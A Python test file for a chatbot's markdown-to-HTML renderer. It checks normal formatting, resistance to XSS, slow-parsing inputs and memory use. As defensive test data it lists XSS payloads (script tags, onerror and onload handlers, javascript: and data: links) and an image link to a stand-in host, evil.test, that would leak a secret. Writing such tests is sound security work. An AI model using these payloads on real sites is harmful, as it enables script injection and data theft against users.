"""Markdown of models: readable, and never more than it should be."""

import time
import tracemalloc

import pytest

from langbot.lib.markdown import markdown_html

SOURCE = """# Title

**bold** and `code` and [link](https://example.org "t")

| a | b |
|---|---|
| 1 | 2 |

```py
x < 1
```
"""


def test_markdown_becomes_html():
    html = markdown_html(SOURCE)
    for part in [
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<code>code</code>",
        'href="https://example.org"',
        'rel="noopener noreferrer nofollow"',
        "<td>2</td>",
        "x &lt; 1",
    ]:
        assert part in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "[a](  JaVaScRiPt:alert(1))",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "[a](vbscript:x)",
        "<javascript:alert(1)>",
        '[a](https://a.test "x\\" onmouseover=alert(1) y=\\"")',
        "![secret](https://evil.test/?q=secret)",
        "<a href='javascript:alert(1)'>x</a>",
        "<svg/onload=alert(1)>",
        "```<b onclick=x>\n<iframe>\n```",
        "[x]: javascript:alert(1)\n[x]",
        "&lt;script&gt;",
    ],
)
def test_nothing_in_it_runs_or_loads(text):
    html = markdown_html(text).lower()
    for tag in ("<script", "<img", "<svg", "<iframe", "<b "):
        assert tag not in html
    assert 'href="javascript' not in html
    assert 'href="data' not in html
    assert 'href="vbscript' not in html
    assert '" on' not in html


@pytest.mark.parametrize("text", ["[" * 30_000, "*[" * 15_000, "![a](" * 6_000])
def test_a_hostile_text_costs_little(text):
    begun = time.process_time()
    assert markdown_html(text).startswith("<pre>")
    assert time.process_time() - begun < 0.5


def test_a_text_too_long_is_shown_as_it_is():
    html = markdown_html("<b>" + "x" * 200_000)
    assert html.startswith("<pre>&lt;b&gt;")


def test_long_texts_are_not_kept_in_memory():
    text = "A word, **bold**.\n\n" * 1000
    tracemalloc.start()
    markdown_html(f"warm up {text}")
    before, _ = tracemalloc.get_traced_memory()
    for number in range(10):
        markdown_html(f"{number} {text}")
    after, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert after - before < 2 * len(text)
